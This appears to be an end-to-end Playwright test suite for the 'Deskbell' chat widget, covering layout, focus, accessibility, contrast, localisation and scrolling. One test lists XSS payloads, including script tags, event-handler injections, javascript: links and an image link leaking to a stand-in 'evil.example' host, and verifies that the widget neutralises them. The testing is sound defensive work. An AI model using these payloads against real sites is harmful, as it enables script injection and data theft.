import { AxeBuilder } from '@axe-core/playwright';
import { chromium, type Browser, type Frame, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { sceneNames } from './dev/scenes.ts';
import { serveScenes, type DevServers } from './dev/serve.ts';

const limitMs = 120_000;
let servers: DevServers;
let browser: Browser;

beforeAll(async () => {
  vi.stubEnv('NODE_ENV', 'production');
  servers = await serveScenes();
  browser = await chromium.launch({
    executablePath: process.env['CHROMIUM_PATH'] ?? '/usr/bin/chromium',
    args: [
      ...['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-sync'],
      ...['--disable-background-networking', '--disable-component-update'],
    ],
  });
}, limitMs);
afterAll(async () => {
  vi.unstubAllEnvs();
  await browser.close();
  await servers.close();
});

interface Visit {
  page: Page;
  /** Errors and policy violations of the page and its frames. */
  faults: string[];
}

async function visit(
  url: string,
  options: { width?: number; height?: number; dark?: boolean } = {},
): Promise<Visit> {
  const context = await browser.newContext({
    viewport: { width: options.width ?? 1024, height: options.height ?? 768 },
    colorScheme: options.dark ? 'dark' : 'light',
    reducedMotion: 'reduce',
  });
  const page = await context.newPage();
  const faults: string[] = [];
  page.on('pageerror', (error) => faults.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error') faults.push(message.text());
  });
  page.on('dialog', (dialog) => {
    faults.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(url);
  return { page, faults };
}

const scene = (name: string, more = '') => `${servers.chat}/widget/frame?scene=${name}${more}`;
const isMounted = (page: Page) =>
  page.waitForFunction(() => 'Deskbell' in window && window.Deskbell !== undefined);

async function chatFrame(page: Page): Promise<Frame> {
  await expect.poll(() => page.frames().length, { timeout: 10_000 }).toBe(2);
  const frame = page.frames()[1];
  if (!frame) throw new Error('There is no frame.');
  await frame.waitForSelector('textarea', { timeout: 10_000 });
  return frame;
}

describe('the launcher on a customer’s page', { timeout: limitMs }, () => {
  it('asks for nothing, stores nothing and mounts once before the visitor turns to it', async () => {
    servers.requests.length = 0;
    const { page, faults } = await visit(`${servers.host}/host`);
    await isMounted(page);
    expect(await page.locator('deskbell-chat').count()).toBe(1);
    expect(servers.requests.filter((request) => request !== '/widget.js')).toEqual([]);
    expect(await page.context().cookies()).toEqual([]);
    expect(await page.evaluate(() => localStorage.length + sessionStorage.length)).toBe(0);
    expect(faults).toEqual([]);
    await page.context().close();
  });

  it('stands where it should whatever the page’s styles say, and opens a panel of 380 by 640', async () => {
    const { page, faults } = await visit(`${servers.host}/host`);
    await isMounted(page);
    expect(await page.evaluate(() => document.elementFromPoint(1024 - 44, 768 - 44)?.localName)).toBe(
      'deskbell-chat',
    );
    await page.mouse.click(1024 - 44, 768 - 44);
    const frame = await chatFrame(page);
    expect(await frame.evaluate(() => [innerWidth, innerHeight])).toEqual([380, 640]);
    const corners = await page.evaluate(() =>
      [
        [1024 - 20, 300],
        [1024 - 392, 300],
        [1024 - 14, 300],
        [1024 - 400, 300],
      ].map(([x = 0, y = 0]) => document.elementFromPoint(x, y)?.localName),
    );
    expect(corners).toEqual(['deskbell-chat', 'deskbell-chat', 'html', 'html']);
    await expect.poll(() => frame.evaluate(() => document.activeElement?.localName)).toBe('textarea');
    expect(faults).toEqual([]);
    await page.context().close();
  });

  it('closes on Escape in the chat, with the focus back on the launcher, and by its own API', async () => {
    const { page } = await visit(`${servers.host}/host`);
    await isMounted(page);
    await page.evaluate(() => window.Deskbell?.open());
    const frame = await chatFrame(page);
    await expect.poll(() => frame.evaluate(() => document.activeElement?.localName)).toBe('textarea');
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => window.Deskbell?.isOpen() === false);
    expect(await page.evaluate(() => document.activeElement?.localName)).toBe('deskbell-chat');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => window.Deskbell?.isOpen() === true);
    await frame.getByRole('button', { name: 'Close chat' }).click();
    await page.waitForFunction(() => window.Deskbell?.isOpen() === false);
    await page.context().close();
  });

  it('stays open on the next page of the visit without taking the focus', async () => {
    const { page } = await visit(`${servers.host}/host`);
    await isMounted(page);
    await page.evaluate(() => window.Deskbell?.open());
    await chatFrame(page);
    await page.goto(`${servers.host}/host?page=2`);
    const frame = await chatFrame(page);
    expect(await page.evaluate(() => window.Deskbell?.isOpen())).toBe(true);
    expect(await frame.evaluate(() => document.activeElement?.localName)).toBe('body');
    await page.context().close();
  });

  it('ignores messages of anyone but its frame', async () => {
    const { page } = await visit(`${servers.host}/host`);
    await isMounted(page);
    await page.evaluate(() => window.Deskbell?.open());
    await chatFrame(page);
    await page.evaluate(async () => {
      window.postMessage({ deskbell: 1, type: 'close' }, '*');
      await new Promise((resolve) => {
        window.addEventListener('message', resolve, { once: true });
      });
    });
    expect(await page.evaluate(() => window.Deskbell?.isOpen())).toBe(true);
    await page.context().close();
  });

  it('fills a phone’s screen', async () => {
    const { page } = await visit(`${servers.host}/host`, { width: 390, height: 844 });
    await isMounted(page);
    await page.evaluate(() => window.Deskbell?.open());
    const frame = await chatFrame(page);
    expect(await frame.evaluate(() => [innerWidth, innerHeight])).toEqual([390, 844]);
    await page.context().close();
  });
});

describe('the chat', { timeout: limitMs }, () => {
  /** Goes through scenes on one page, since opening pages is what takes time here. */
  async function look(
    dark: boolean,
    names: readonly string[],
    more: string,
    check: (page: Page, name: string) => Promise<void>,
  ) {
    const { page, faults } = await visit(scene('greeting'), { width: 380, height: 640, dark });
    for (const name of names) {
      await page.goto(scene(name, more));
      await page.waitForSelector('textarea');
      await check(page, `${name}${more} ${dark ? 'dark' : 'light'}`);
    }
    expect(faults).toEqual([]);
    await page.context().close();
  }
  /** In one page: the default opens a second one for each run. */
  const axe = (page: Page) => new AxeBuilder({ page }).setLegacyMode();
  const faultsOf = (found: { id: string; nodes: { html: string }[] }[]) =>
    found.map(({ id, nodes }) => [id, nodes.map((node) => node.html)]);

  it('has no accessibility fault in any state', async () => {
    const names = sceneNames.filter((name) => name !== 'custom');
    await look(false, names, '', async (page, name) => {
      expect(faultsOf((await axe(page).analyze()).violations), name).toEqual([]);
      const boxes = await page
        .locator('button')
        .evaluateAll((buttons) => buttons.map((button) => button.getBoundingClientRect().toJSON()));
      expect(
        boxes.filter(({ width, height }) => width < 44 || height < 44),
        name,
      ).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), name).toBe(true);
    });
  });

  it('keeps text readable in the dark and on any accent an owner may choose', async () => {
    const contrast = async (page: Page, name: string) => {
      const { violations } = await axe(page).withRules(['color-contrast']).analyze();
      expect(faultsOf(violations), name).toEqual([]);
    };
    await look(
      true,
      ['searching', 'stopped', 'waiting', 'human', 'failed', 'offline', 'table'],
      '',
      contrast,
    );
    for (const accent of ['ffe14d', '000000', 'ffffff', '7f7f7f']) {
      for (const dark of [false, true]) await look(dark, ['answered'], `&accent=%23${accent}`, contrast);
    }
  });

  it('runs nothing that a message contains, finished or streaming', async () => {
    const hostile = [
      '<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>',
      '[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>',
      '![x](https://evil.example/leak?q=1) [![y](https://evil.example/i)](javascript:alert(1))',
      'javascript:alert(1)',
      '{@html "<b>"} {{constructor.constructor("alert(1)")()}} `<b>`',
    ];
    for (const text of hostile) {
      const { page, faults } = await visit(scene('custom', `&text=${encodeURIComponent(text)}`));
      const outside: string[] = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(servers.chat)) outside.push(request.url());
      });
      await page.waitForSelector('article');
      const schemes = await page
        .locator('#chat a')
        .evaluateAll((links) => links.map((link) => new URL(link.getAttribute('href') ?? '').protocol));
      expect(schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))).toEqual([]);
      expect(
        await page.locator('#chat :is(img, script, iframe, object, embed, [onerror], [onload])').count(),
      ).toBe(0);
      expect([faults, outside]).toEqual([[], []]);
      await page.context().close();
    }
  });

  it('opens cited pages in a new tab that cannot reach back', async () => {
    const { page } = await visit(scene('answered'));
    const chip = page.getByRole('link', { name: 'Source 1: How do I return something?' });
    await chip.waitFor();
    expect(await chip.getAttribute('target')).toBe('_blank');
    expect(await chip.getAttribute('rel')).toBe('noopener noreferrer');
    await page.context().close();
  });

  it('grows the place to write to five lines, sends on Enter, and keeps a draft over a reload', async () => {
    const { page } = await visit(scene('greeting'), { width: 380, height: 640 });
    const field = page.getByRole('textbox', { name: 'Your message' });
    const height = async () => Math.round((await field.boundingBox())?.height ?? 0);
    await field.click();
    const heights = [await height()];
    for (let line = 2; line <= 7; line += 1) {
      await page.keyboard.type(String(line));
      await page.keyboard.press('Shift+Enter');
      heights.push(await height());
    }
    expect(heights.slice(0, 6)).toEqual([44, 68, 92, 116, 140, 140]);
    await page.reload();
    await expect.poll(() => field.inputValue()).toBe('2\n3\n4\n5\n6\n7\n');
    await field.press('Enter');
    expect(await field.inputValue()).toBe('');
    await page.reload();
    expect(await field.inputValue()).toBe('');
    await page.context().close();
  });

  it('asks before it starts over, and never loses the keyboard’s place', async () => {
    const { page } = await visit(scene('answered'), { width: 380, height: 640 });
    const opener = page.getByRole('button', { name: 'New conversation' });
    const focused = () => page.evaluate(() => document.activeElement?.textContent?.trim() ?? '');
    await opener.focus();
    await page.keyboard.press('Enter');
    await expect.poll(focused).toBe('Start new');
    await page.keyboard.press('Escape');
    expect(await opener.evaluate((button) => button === document.activeElement)).toBe(true);
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Start new' }).press('Enter');
    const field = page.getByRole('textbox', { name: 'Your message' });
    await expect.poll(() => field.evaluate((area) => area === document.activeElement)).toBe(true);
    await page.getByRole('button', { name: 'Talk to a person' }).press('Enter');
    expect(await page.getByRole('button', { name: 'Asked' }).isDisabled()).toBe(true);
    await expect.poll(() => field.evaluate((area) => area === document.activeElement)).toBe(true);
    await page.context().close();
  });

  it('leaves the scroll position to a visitor who scrolled up', async () => {
    const { page } = await visit(scene('waiting'), { width: 380, height: 640 });
    const log = page.getByRole('log');
    const top = () => log.evaluate((element) => Math.round(element.scrollTop));
    await expect.poll(top).toBeGreaterThan(100);
    await log.evaluate((element) => element.scrollTo(0, 40));
    await page.getByRole('button', { name: 'Go to the latest message' }).waitFor();
    await page.setViewportSize({ width: 380, height: 600 });
    await page.waitForFunction(() => innerHeight === 600);
    expect(await top()).toBe(40);
    await page.getByRole('button', { name: 'Go to the latest message' }).click();
    await expect.poll(top).toBeGreaterThan(100);
    await page.context().close();
  });

  it('stops following a long answer when the question reaches the top', async () => {
    const { page } = await visit(scene('searching'), { width: 380, height: 420 });
    const question = page.locator('article.visitor');
    const room = () =>
      question.evaluate((article) => {
        const frame = article.closest('[role=log]')?.getBoundingClientRect();
        return Math.round(article.getBoundingClientRect().top - (frame?.top ?? 0));
      });
    await page.getByRole('textbox').fill('More');
    await page.keyboard.press('Enter');
    await page.evaluate(() => window.showScene('streaming'));
    await page.locator('.bubble.streaming').waitFor();
    // it is followed until the question is at the top
    await expect.poll(room).toBeLessThanOrEqual(12);
    const rooms = [await room()];
    await page.evaluate(() => window.showScene('answered'));
    await page.getByText('Sources').waitFor();
    await page.getByRole('button', { name: 'Go to the latest message' }).waitFor();
    rooms.push(await room());
    // the question may have left, but not what follows it; and what is read has not moved
    const { height = 0 } = (await question.boundingBox()) ?? {};
    expect(rooms[0]).toBeGreaterThanOrEqual(12 - height);
    expect(rooms[1]).toBe(rooms[0]);
    await page.getByRole('button', { name: 'Go to the latest message' }).click();
    await expect.poll(room).toBeLessThan(-100);
    await page.context().close();
  });

  it('speaks the page’s language, and from right to left where it is written so', async () => {
    const { page } = await visit(scene('waiting', '&lang=de-AT'), { width: 380, height: 640 });
    await page.getByText('Sie warten auf einen Menschen').waitFor();
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('de');
    await page.goto(scene('waiting', '&lang=ar'));
    await page.getByText('في انتظار أحد الزملاء').waitFor();
    expect(await page.evaluate(() => document.documentElement.dir)).toBe('rtl');
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    const own = await page.locator('article.visitor .bubble').first().boundingBox();
    expect(own?.x).toBeLessThan(60);
    await page.context().close();
  });
});
